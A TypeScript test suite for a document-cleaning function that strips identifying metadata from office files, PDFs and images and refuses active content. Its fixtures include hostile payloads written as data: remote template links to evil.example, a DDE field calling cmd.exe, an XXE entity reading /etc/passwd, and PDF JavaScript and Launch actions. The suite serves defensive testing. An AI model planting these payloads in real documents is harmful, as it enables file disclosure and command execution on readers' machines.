import { deflateSync } from 'node:zlib';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { PDFDocument } from 'mupdf';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { clean } from '#platform/files/clean/clean.ts';

/** Stands wherever a program writes who made a file, where, when, with what, and what it was before. Nowhere afterwards. */
const WHO = 'Nadie Ejemplo';
const PATH = `C:\\Users\\${WHO}\\informe.docx`;
const WHEN = '2026-01-02T03:04:05Z';
const TOLD = /Nadie|2026-01-02|\bfoto-de-nadie/;

const photograph = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#343a8c' } })
  .jpeg()
  .withExif({ IFD0: { Artist: WHO }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '19/1 26/1 0/1' } })
  .toBuffer();
const traced = async (format: 'tiff' | 'webp' | 'png' | 'gif') =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: 'white' } })
    .toFormat(format)
    .withExif({ IFD0: { Artist: WHO } })
    .toBuffer();

const [tiff, webp, png] = await Promise.all([traced('tiff'), traced('webp'), traced('png')]);
const gif = Buffer.concat([await traced('gif'), Buffer.from(WHO)]);

/** Everything a reader could find: the bytes, what lies compressed in them, and that again; in either width of letters. */
function within(bytes: Uint8Array): string {
  const plain = Buffer.from(bytes).toString('latin1');
  if (plain.startsWith('PK'))
    return Object.entries(unzipSync(bytes))
      .map(([name, part]) => `${name}\n${within(part)}`)
      .join('\n');
  if (!plain.startsWith('%PDF')) return `${plain}\n${plain.replaceAll('\0', '')}`;
  const pdf = new PDFDocument(bytes);
  const objects = Array.from({ length: pdf.countObjects() - 1 }, (_, i) => pdf.newIndirect(i + 1));
  const streams = objects
    .filter((object) => object.isStream())
    .flatMap((object) =>
      [object.readRawStream(), object.readStream()].map((stream) => Buffer.from(stream.asUint8Array()).toString('latin1')),
    );
  return [
    plain,
    pdf.getTrailer().toString(false, true),
    ...objects.map((object) => object.resolve().toString(false, true)),
    ...streams,
  ].join('\n');
}

const TYPES = (more = '') =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>${more}<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const document = (inside: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Formar a jueces.</w:t></w:r>${inside}</w:p></w:body></w:document>`;

function docx(more: Record<string, string | Uint8Array> = {}): Buffer {
  const parts = {
    '[Content_Types].xml': TYPES(),
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': document(''),
    ...more,
  };
  return Buffer.from(
    zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]))),
  );
}

const odt = (content: string, more: Record<string, string | Uint8Array> = {}): Buffer =>
  Buffer.from(
    zipSync({
      mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
      'content.xml': strToU8(
        `<office:document-content><office:body><text:p>Formar a jueces.</text:p>${content}</office:body></office:document-content>`,
      ),
      'META-INF/manifest.xml': strToU8(
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
      ),
      ...Object.fromEntries(Object.entries(more).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])),
    }),
  );

async function tellsNothing(bytes: Buffer, name: string): Promise<string> {
  expect(within(bytes), 'the attack itself').toMatch(TOLD);
  const result = await clean(bytes, name);
  if (typeof result === 'string') throw new Error(`refused: ${result}`);
  const told = within(result.bytes);
  expect(told.match(new RegExp(`.{0,60}(${TOLD.source}).{0,40}`, 's'))?.[0]).toBeUndefined();
  return told;
}

describe('a document of an office program tells nobody', () => {
  const settings = (inside: string) => ({ 'word/settings.xml': `<w:settings>${inside}</w:settings>` });
  const relations = (inside: string) => ({
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`,
  });

  test.each<[string, Record<string, string | Uint8Array>]>([
    [
      'who changed a word, in single quotes',
      { 'word/document.xml': document(`<w:ins w:id='1' w:author='${WHO}' w:date='${WHEN}'><w:r/></w:ins>`) },
    ],
    [
      'who changed a word, with spaces about the sign',
      { 'word/document.xml': document(`<w:ins w:id="1" w:author = "${WHO}"\n w:date\t=\n"${WHEN}"><w:r/></w:ins>`) },
    ],
    [
      'who changed a word, under another prefix',
      { 'word/document.xml': document(`<ns0:ins xmlns:ns0="x" ns0:author="${WHO}" ns0:date="${WHEN}"/>`) },
    ],
    [
      'when a comment was made',
      {
        'word/commentsExtensible.xml': `<w16cex:commentsExtensible><w16cex:comment w16cex:durableId="1" w16cex:dateUtc="${WHEN}"/></w16cex:commentsExtensible>`,
      },
    ],
    [
      'who was given a task',
      {
        'word/documenttasks/documenttasks1.xml': `<t:Tasks><t:Attribution userId="S::nadie::Nadie" userName="${WHO}" userProvider="AD"/></t:Tasks>`,
      },
    ],
    ['what a program kept in variables', settings(`<w:docVars><w:docVar w:name="author" w:val="${WHO}"/></w:docVars>`)],
    ['where letters were merged from', settings(`<w:mailMerge><w:connectString w:val="Data Source=${PATH}"/></w:mailMerge>`)],
    [
      'which office it belongs to',
      { 'docMetadata/LabelInfo.xml': `<clbl:labelList><clbl:label id="{Nadie}" siteId="{Nadie}"/></clbl:labelList>` },
    ],
    [
      'who signed it',
      { '_xmlsignatures/sig1.xml': `<Signature><X509Certificate>${WHO}</X509Certificate></Signature>`, '_xmlsignatures/origin.sigs': WHO },
    ],
    ['to whom letters went', { 'word/recipientData.xml': `<w:recipients>${WHO}</w:recipients>` }],
    [
      'what was bound to it',
      {
        'customXml/item1.xml': `<a>${WHO}</a>`,
        'customXml/itemProps1.xml': `<ds:datastoreItem>${WHO}</ds:datastoreItem>`,
        'customXML/other.xml': `<a>${WHO}</a>`,
      },
    ],
    [
      'what somebody added to the program',
      {
        'customUI/customUI14.xml': `<customUI>${WHO}</customUI>`,
        'userCustomization/customUI.xml': `<x>${WHO}</x>`,
        'word/intelligence2.xml': `<x>${WHO}</x>`,
      },
    ],
    ['what a part that we do not know tells', { 'word/unheardof.xml': `<x>${WHO}</x>`, 'unheard/of.dat': WHO }],
    ['what a comment in the markup tells', { 'word/document.xml': document(`<!-- ${WHO} --><?made-by ${WHO}?>`) }],
    [
      'on whose disk a picture lay',
      {
        'word/document.xml': document(
          `<pic:cNvPr id="0" name="foto-de-nadie.jpg" descr="${PATH}"/><v:imagedata o:title="foto-de-nadie" o:href="file:///${PATH}"/>`,
        ),
      },
    ],
    [
      'on whose disk a picture is fetched',
      {
        'word/document.xml': document(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "${PATH}" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
      },
    ],
    ['on whose disk a linked table lay', { 'word/document.xml': document(`<w:fldSimple w:instr=' LINK Excel.Sheet.12 "${PATH}" '/>`) }],
    [
      'where a template lay, in single quotes',
      relations(`<Relationship Id='r9' Type='${REL}/attachedTemplate' Target='file:///${PATH}' TargetMode='External'/>`),
    ],
    [
      'where a template lay, under another prefix',
      relations(
        `<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" Id="r9" Type="${REL}/attachedTemplate" Target="file:///${PATH}" TargetMode="External"/>`,
      ),
    ],
    [
      'where a template lay, behind a sign written as a number',
      relations(`<Relationship Id="r9" Type="${REL}/attachedTemplate" Target="file:///${PATH}" TargetMode="Ext&#x65;rnal"/>`),
    ],
    [
      'where a template lay, behind a sign that ends nothing',
      relations(`<Relationship Id="a>b" Type="${REL}/attachedTemplate" TargetMode="External" Target="file:///${PATH}"/>`),
    ],
    [
      'which drive a link leads to',
      relations(`<Relationship Id="r9" Type="${REL}/hyperlink" Target="\\\\server\\${WHO}" TargetMode="External"/>`),
    ],
    [
      'what a picture of another kind tells',
      {
        'word/media/image1.gif': gif,
        'word/media/image2.webp': webp,
        'word/media/image3.jpe': photograph,
        'word/media/image4.jfif': photograph,
      },
    ],
    [
      'who drew a drawing',
      {
        'word/media/image1.svg': `<svg xmlns="http://www.w3.org/2000/svg" sodipodi:docname="${PATH}" inkscape:export-filename='${PATH}'><metadata><dc:creator>${WHO}</dc:creator></metadata><!-- ${WHO} --><sodipodi:namedview x="${WHO}"/><title>foto-de-nadie</title><rect/></svg>`,
      },
    ],
    ['who made a sheet behind a chart', { 'word/embeddings/Sheet1.xlsx': sheet() }],
  ])('%s', async (_, parts) => {
    expect(await tellsNothing(docx(parts), 'a.docx')).toContain('Formar a jueces.');
  });

  function sheet(): Uint8Array {
    return docx({
      'xl/workbook.xml': `<workbook><mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath url="${PATH}"/></mc:Choice></mc:AlternateContent><fileSharing userName="${WHO}"/><sheets/></workbook>`,
      'xl/comments1.xml': `<comments><authors><author>${WHO}</author></authors><commentList/></comments>`,
      'xl/persons/person.xml': `<personList><person displayName="${WHO}" userId="${WHO}"/></personList>`,
      'xl/threadedComments/threadedComment1.xml': `<x dT="${WHEN}"/>`,
      'xl/connections.xml': `<connections>${PATH}</connections>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships><Relationship Id="r" Type="x" Target="file:///${PATH}" TargetMode="External"/></Relationships>`,
      'xl/printerSettings/printerSettings1.bin': strToU8(WHO),
      'docProps/app.xml': `<Properties><Company>${WHO}</Company></Properties>`,
    });
  }

  test('what a drawing of the old kind is called', async () => {
    const words = Buffer.from(`Excel\0${WHO}\0\0`, 'utf16le');
    const emf = Buffer.alloc(108 + words.length);
    emf.writeUInt32LE(1, 0);
    emf.writeUInt32LE(emf.length, 4);
    emf.write(' EMF', 40, 'latin1');
    emf.writeUInt32LE(words.length / 2, 60);
    emf.writeUInt32LE(108, 64);
    words.copy(emf, 108);
    await tellsNothing(docx({ 'word/media/image1.emf': emf }), 'a.docx');
  });

  test('where something it fetches lies, however that is written', async () => {
    const hidden = [
      `<Relationship Id='r9' Type='${REL}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>`,
      `<q:Relationship Id="r9" Type="${REL}/image" Target="https://evil.example/x.png" TargetMode="&#69;xternal"/>`,
      `<Relationship TargetMode="External" Target="https://evil.example/x.png" Type="${REL}/frame" Id="r9"></Relationship>`,
    ];
    for (const one of hidden) {
      const result = await clean(docx(relations(one)), 'a.docx');
      if (typeof result === 'string') continue;
      expect(within(result.bytes), one).not.toContain('evil.example');
    }
    const kept = await clean(
      docx(relations(`<Relationship Id="r9" Type="${REL}/hyperlink" Target="https://example.org/?a=1&amp;b=2" TargetMode="External"/>`)),
      'a.docx',
    );
    expect(within((kept as { bytes: Uint8Array }).bytes)).toContain('Target="https://example.org/?a=1&amp;b=2"');
  });

  test.each<[string, Record<string, string | Uint8Array>]>([
    ['an old sheet with what runs in it', { 'word/embeddings/Sheet1.xls': strToU8('x') }],
    ['a sheet with macros', { 'word/embeddings/Sheet1.xlsm': docx() }],
    ['a page to be read in', { 'word/afchunk.mht': 'MIME-Version: 1.0' }],
    ['a page of the web to be read in', { 'word/afchunk1.html': '<script>1</script>' }],
    ['a film', { 'word/media/film.mp4': 'x' }],
    ['a picture whose reader we do not ask', { 'word/media/image1.tiff': tiff, 'word/media/image2.png': tiff }],
    [
      'a drawing that calls itself a picture',
      { 'word/media/image1.png': '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/><script/></svg>' },
    ],
    [
      'a program that another program is asked for',
      {
        'word/document.xml': document(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
      },
    ],
    ['a script in a drawing', { 'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>' }],
    [
      'what is declared in another width of letters',
      {
        'word/document.xml': Buffer.from(
          `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
          'utf16le',
        ),
      },
    ],
  ])('with %s is not taken', async (_, parts) => {
    expect(['active_content', 'unreadable']).toContain(await clean(docx(parts), 'a.docx'));
  });
});

describe('a document in the open format tells nobody', () => {
  test.each<[string, string, Record<string, string | Uint8Array>?]>([
    [
      'who commented it, behind an attribute',
      `<office:annotation><dc:creator xml:lang="es">${WHO}</dc:creator><dc:date>${WHEN}</dc:date></office:annotation>`,
    ],
    ['who commented it, written as it stands', `<office:annotation><dc:creator><![CDATA[${WHO}]]></dc:creator></office:annotation>`],
    [
      'what it was before',
      '',
      { 'VersionList.xml': `<VL:version-list><VL:version-entry dc:creator="${WHO}"/></VL:version-list>`, 'Versions/Version1': odt(WHO) },
    ],
    ['who signed it', '', { 'META-INF/macrosignatures.xml': WHO, 'META-INF/packagesignatures.xml': WHO }],
    [
      'on whose disk a picture lay',
      `<draw:frame draw:name="foto-de-nadie.jpg"><draw:image xlink:href="file:///${PATH}"/><svg:desc>${PATH}</svg:desc></draw:frame>`,
    ],
    ['on whose disk a section lay', `<text:section><text:section-source xlink:href="../../${WHO}/informe.odt"/></text:section>`],
    ['on whose disk a link leads', `<text:a xlink:href='file:///${PATH}'>x</text:a>`],
    ['what a comment in the markup tells', `<!-- ${WHO} -->`],
    [
      'what a picture of another kind tells',
      '',
      { 'Pictures/1.webp': webp, 'Pictures/2.svg': `<svg xmlns="http://www.w3.org/2000/svg"><metadata>${WHO}</metadata></svg>` },
    ],
    [
      'what a part that we do not know tells',
      '',
      {
        'Unheard/of.xml': `<x>${WHO}</x>`,
        'manifest.rdf': `<rdf>${WHO}</rdf>`,
        'meta.xml': `<m>${WHO}</m>`,
        'settings.xml': `<s>${WHO}</s>`,
      },
    ],
  ])('%s', async (_, content, more = {}) => {
    expect(await tellsNothing(odt(content, more), 'a.odt')).toContain('Formar a jueces.');
  });

  test('and fetches nothing when it is opened', async () => {
    const result = await clean(
      odt('<draw:image xlink:href="https://evil.example/x.png"/><text:a xlink:href="https://example.org/">x</text:a>'),
      'a.odt',
    );
    const told = within((result as { bytes: Uint8Array }).bytes);
    expect(told).not.toContain('evil.example');
    expect(told).toContain('https://example.org/');
  });

  test.each<[string, string, Record<string, string | Uint8Array>?]>([
    ['what another program is asked for', '<office:dde-source office:dde-application="cmd"/>'],
    ['a macro to be run', '<text:execute-macro text:name="x"/>'],
    ['a picture whose inside we did not see', '<draw:image><office:binary-data>AAAA</office:binary-data></draw:image>'],
    ['a dialogue of a program', '', { 'Dialogs/Standard/d.xml': '<x/>' }],
    ['a film', '', { 'Media/film.mp4': 'x' }],
  ])('with %s is not taken', async (_, content, more = {}) => {
    expect(await clean(odt(content, more), 'a.odt')).toBe('active_content');
  });
});

describe('a PDF tells nobody', () => {
  function pdf(change: (pdf: PDFDocument) => void): Buffer {
    const made = new PDFDocument();
    made.insertPage(-1, made.addPage([0, 0, 200, 200], 0, made.newDictionary(), 'BT ET'));
    change(made);
    return Buffer.from(made.saveToBuffer('compress=no').asUint8Array());
  }
  const image = (made: PDFDocument, bytes: Buffer, more: object) => {
    const raw = made.addRawStream(bytes, {
      Type: 'XObject',
      Subtype: 'Image',
      Width: 40,
      Height: 30,
      ColorSpace: 'DeviceRGB',
      BitsPerComponent: 8,
      ...more,
    });
    made.findPage(0).put('Resources', made.addObject({ XObject: { I: raw } }));
  };
  /** A picture of JPEG 2000 with what a camera writes into boxes of its own (ISO 15444-1, I.7). */
  const box = (type: string, content: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(content.length + 8, 0);
    head.write(type, 4, 'latin1');
    return Buffer.concat([head, content]);
  };
  const jp2 = Buffer.concat([
    box('jP  ', Buffer.from([13, 10, 0x87, 10])),
    box('ftyp', Buffer.from('jp2 \0\0\0\0jp2 ')),
    box('uuid', Buffer.from(`0123456789abcdef${WHO}`)),
    box('xml ', Buffer.from(`<x>${WHO}</x>`)),
    box('jp2c', Buffer.from([0xff, 0x4f])),
  ]);

  const page = (made: PDFDocument) => made.findPage(0);
  const text = (made: PDFDocument) => made.newString(WHO);
  test.each<[string, (made: PDFDocument) => void]>([
    [
      'who put a note there, written in place',
      (made) =>
        page(made).put('Annots', [
          {
            Type: 'Annot',
            Subtype: 'Text',
            Rect: [0, 0, 9, 9],
            T: text(made),
            M: made.newString('D:2026 Nadie'),
            RC: made.newString('<p>ok</p>'),
          },
        ]),
    ],
    [
      'who put a note there, in a list apart',
      (made) => page(made).put('Annots', made.addObject([{ Type: 'Annot', Subtype: 'Text', Rect: [0, 0, 9, 9], T: text(made) }])),
    ],
    [
      'who signed it',
      (made) =>
        made.addObject({}) &&
        page(made).put('Annots', [
          made.addObject({
            Type: 'Annot',
            Subtype: 'Widget',
            FT: 'Sig',
            Rect: [0, 0, 9, 9],
            V: made.addObject({
              Type: 'Sig',
              Filter: 'Adobe.PPKLite',
              Name: text(made),
              Location: text(made),
              ContactInfo: text(made),
              Contents: text(made),
              Cert: text(made),
              Prop_Build: { App: { Name: text(made) } },
            }),
          }),
        ]),
    ],
    [
      'who vouches for the signature',
      (made) =>
        made
          .getTrailer()
          .get('Root')
          .put('DSS', made.addObject({ Certs: [made.addStream(WHO, {})] })),
    ],
    [
      'with what its layers were made',
      (made) =>
        made
          .getTrailer()
          .get('Root')
          .put('OCProperties', {
            OCGs: [
              made.addObject({
                Type: 'OCG',
                Name: made.newString('x'),
                Usage: { CreatorInfo: { Creator: text(made), Subtype: 'Artwork' } },
              }),
            ],
          }),
    ],
    [
      'from where pages were taken',
      (made) =>
        made
          .getTrailer()
          .get('Root')
          .put('SpiderInfo', { C: [{ URL: text(made) }] }),
    ],
    [
      'on whose disk a link leads',
      (made) =>
        page(made).put('Annots', [
          { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: { S: 'GoToR', F: made.newString(PATH), D: [0] } },
          { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: { S: 'URI', URI: made.newString(`file:///${PATH}`) } },
        ]),
    ],
    [
      'on whose disk a picture lay',
      (made) =>
        made
          .getTrailer()
          .get('Root')
          .put('StructTreeRoot', { K: { S: 'Figure', Alt: made.newString(PATH) } }),
    ],
    ['what a page looked like before', (made) => page(made).put('Thumb', made.addStream(WHO, { Width: 1, Height: 1 }))],
    [
      'what a program keeps beside a page',
      (made) =>
        page(made).put('Resources', {
          Properties: { MC0: { PieceInfo: { X: { Private: text(made) } }, Metadata: made.addStream(WHO, { Type: 'Metadata' }) } },
        }),
    ],
    [
      'where a photograph was taken, under a second compression',
      (made) => image(made, deflateSync(photograph), { Filter: ['FlateDecode', 'DCTDecode'] }),
    ],
    [
      'where a photograph was taken, written in letters',
      (made) => image(made, Buffer.from(`${photograph.toString('hex')}>`), { Filter: ['ASCIIHexDecode', 'DCTDecode'] }),
    ],
    ['where a photograph of the other kind was taken', (made) => image(made, jp2, { Filter: 'JPXDecode' })],
    [
      'which file it was made from',
      (made) => made.getTrailer().put('ID', [made.newByteString(Buffer.from(WHO)), made.newByteString(Buffer.from(WHO))]),
    ],
  ])('%s', async (_, change) => {
    await tellsNothing(pdf(change), 'a.pdf').catch((error: Error) => {
      // Two layers of compression hide it from the look before, not from whoever unpacks them.
      if (!/the attack itself/.test(error.message)) throw error;
      return clean(pdf(change), 'a.pdf').then((result) =>
        expect(within((result as { bytes: Uint8Array }).bytes)).not.toMatch(/Nadie|Exif/),
      );
    });
  });

  test('who made it, in the form that newer programs write', async () => {
    const made = new PDFDocument(
      pdf((one) => {
        one.setMetaData('info:Author', WHO);
        one.getTrailer().get('Info').put('Company', one.newString(WHO));
      }),
    );
    const bytes = Buffer.from(made.saveToBuffer('compress=yes,objstms=yes').asUint8Array());
    expect(bytes.toString('latin1')).toContain('/ObjStm');
    const told = await tellsNothing(bytes, 'a.pdf');
    expect(told).not.toMatch(/\/Info|\/ID/);
  });

  test('and runs nothing, at the end of a chain either', async () => {
    const bytes = pdf((made) => {
      const run = { S: 'JavaScript', JS: made.newString('app.alert(1)') };
      page(made).put('Annots', [
        {
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [0, 0, 9, 9],
          A: { S: 'URI', URI: made.newString('https://example.org/'), Next: [run, { S: 'Launch', F: made.newString('cmd.exe') }] },
        },
      ]);
      made.getTrailer().get('Root').put('AA', { WC: run });
      made
        .getTrailer()
        .get('Root')
        .put('Names', { JavaScript: { Names: [made.newString('x'), run] } });
    });
    const told = within(((await clean(bytes, 'a.pdf')) as { bytes: Uint8Array }).bytes);
    expect(told).not.toMatch(/JavaScript|Launch|alert|cmd\.exe/);
    expect(told).toContain('https://example.org/');
  });
});

describe('a picture tells nobody', () => {
  test('what stands in its text, between its parts and behind its end', async () => {
    const chunk = (type: string, content: Buffer) => {
      const size = Buffer.alloc(4);
      size.writeUInt32BE(content.length);
      const body = Buffer.concat([Buffer.from(type), content]);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body));
      return Buffer.concat([size, body, crc]);
    };

    const told = Buffer.concat([
      png.subarray(0, 33),
      chunk('tEXt', Buffer.from(`Author\0${WHO}`)),
      chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${WHO}`)),
      png.subarray(33),
      Buffer.from(WHO),
    ]);
    await tellsNothing(told, 'a.png');
    await tellsNothing(Buffer.concat([photograph, Buffer.from(WHO), docx({ 'word/x.xml': WHO })]), 'a.jpg');
  });
});

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let i = 0; i < 8; i++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}
